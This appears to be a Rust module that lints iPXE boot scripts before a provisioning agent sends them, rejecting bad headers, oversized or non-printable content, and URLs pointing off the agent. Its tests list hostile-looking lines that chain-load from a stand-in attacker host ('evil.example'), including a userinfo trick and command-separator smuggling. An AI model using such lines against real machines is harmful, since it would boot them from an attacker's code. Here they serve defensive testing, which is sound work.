//! The last look at a script before a machine gets it, whoever wrote it.

use crate::BaseUrl;

/// The longest script that is sent, in bytes.
pub const SCRIPT_LEN_MAX: usize = 16 * 1_024;

const FIRST_LINE: &str = "#!ipxe";

/// Words that end a command of iPXE when they stand alone.
const SEPARATORS: [&str; 3] = ["||", "&&", ";"];

/// Why a script is not sent. The machine gets the error script, the log gets this text.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum LintError {
    /// iPXE would take it for something else than a script.
    #[error("the script does not begin with a line '{FIRST_LINE}'")]
    FirstLine,
    /// More than consoles and loaders are asked to take.
    #[error(
        "the script has {0} bytes, and {SCRIPT_LEN_MAX} are sent at most: shorten the workflow's command line or its list of initrds"
    )]
    Long(usize),
    /// Neither printable ASCII nor a line feed.
    #[error("line {line} of the script holds {character:?}, which is not printable ASCII")]
    Character {
        /// The line, counted from 1.
        line: usize,
        /// The character.
        character: char,
    },
    /// A URL that leads away from this agent.
    #[error("line {line} of the script names {url}, which is not on this agent")]
    ForeignUrl {
        /// The line, counted from 1.
        line: usize,
        /// The word that holds the URL.
        url: String,
    },
}

/// Checks that `script` is one for iPXE, is harmless to a console, and sends the machine nowhere but to `base`.
///
/// Every absolute URL that iPXE could follow counts. What `echo` prints and what `kernel` hands on to the kernel behind the
/// kernel's own URL is followed by nobody here: a workflow may well name its distribution's mirror there.
///
/// # Errors
/// The first thing that is wrong, with its line.
pub fn check_script(script: &str, base: &BaseUrl) -> Result<(), LintError> {
    if script.lines().next() != Some(FIRST_LINE) {
        return Err(LintError::FirstLine);
    }
    if script.len() > SCRIPT_LEN_MAX {
        return Err(LintError::Long(script.len()));
    }
    for (text, line) in script.split('\n').zip(1..) {
        if let Some(character) = text.chars().find(|c| !matches!(c, ' '..='~')) {
            return Err(LintError::Character { line, character });
        }
        if let Some(url) = foreign_url(text, base) {
            return Err(LintError::ForeignUrl { line, url: url.to_owned() });
        }
    }
    Ok(())
}

/// The first word of a line that holds a URL which iPXE could follow away from `base`.
fn foreign_url<'a>(line: &'a str, base: &BaseUrl) -> Option<&'a str> {
    let mut command = None;
    let mut is_followed = true;
    for word in line.split(' ').filter(|word| !word.is_empty()) {
        if SEPARATORS.contains(&word) {
            command = None;
            is_followed = true;
            continue;
        }
        let command = *command.get_or_insert(word);
        if command == "echo" {
            is_followed = false;
        }
        if !is_followed || !word.contains("://") {
            continue;
        }
        if !is_below(word, base) {
            return Some(word);
        }
        is_followed = command != "kernel";
    }
    None
}

fn is_below(url: &str, base: &BaseUrl) -> bool {
    url.strip_prefix(base.as_str())
        .is_some_and(|rest| rest.starts_with('/') && !rest.contains("://"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(lines: &str) -> Result<(), LintError> {
        let base = "http://192.0.2.1:8080".parse().expect("a base URL");
        check_script(&format!("#!ipxe\n{lines}"), &base)
    }

    #[test]
    fn h20_a_url_that_ipxe_would_follow_is_on_this_agent() {
        for line in [
            "chain http://192.0.2.1:8080/boot.ipxe?mac=${netX/mac}",
            "kernel --name k http://192.0.2.1:8080/files/k inst.repo=https://mirror.example/9 http://x/ || goto again",
            "echo see https://example.org/ || goto again",
            "chain boot.ipxe",
        ] {
            assert_eq!(check(line), Ok(()), "{line}");
        }
        for line in [
            "chain http://192.0.2.1:80801/",
            "chain http://192.0.2.1:8080",
            "chain http://192.0.2.1:8080@evil.example/",
            "chain tftp://192.0.2.1/a",
            "chain ${scheme}://evil.example/",
            "chain HTTP://evil.example/",
            "set url=http://evil.example/",
            "kernel http://evil.example/ console=ttyS0",
            "kernel --name http://evil.example/ http://192.0.2.1:8080/files/k",
            "kernel http://192.0.2.1:8080/files/k quiet || chain http://evil.example/",
            "kernel http://192.0.2.1:8080/files/k quiet ; kernel http://evil.example/",
            "echo done && chain http://evil.example/",
            "  chain   http://evil.example/",
        ] {
            assert!(matches!(check(line), Err(LintError::ForeignUrl { line: 2, .. })), "{line}");
        }
    }

    #[test]
    fn h20_a_script_is_short_printable_and_says_what_it_is() {
        let base = "http://192.0.2.1:8080".parse().expect("a base URL");
        for text in ["", "echo", " #!ipxe\n", "#!ipxe \n", "#!gpxe\n"] {
            assert_eq!(check_script(text, &base), Err(LintError::FirstLine), "{text:?}");
        }
        for c in ['\r', '\t', '\u{1b}', '\u{7f}', '\0', 'ü'] {
            let expected = Err(LintError::Character { line: 3, character: c });
            assert_eq!(check(&format!("echo\necho {c}")), expected);
        }
        let full = "a".repeat(SCRIPT_LEN_MAX - FIRST_LINE.len() - 1);
        assert_eq!(check(&full), Ok(()));
        assert_eq!(check(&(full + "a")), Err(LintError::Long(SCRIPT_LEN_MAX + 1)));
    }
}
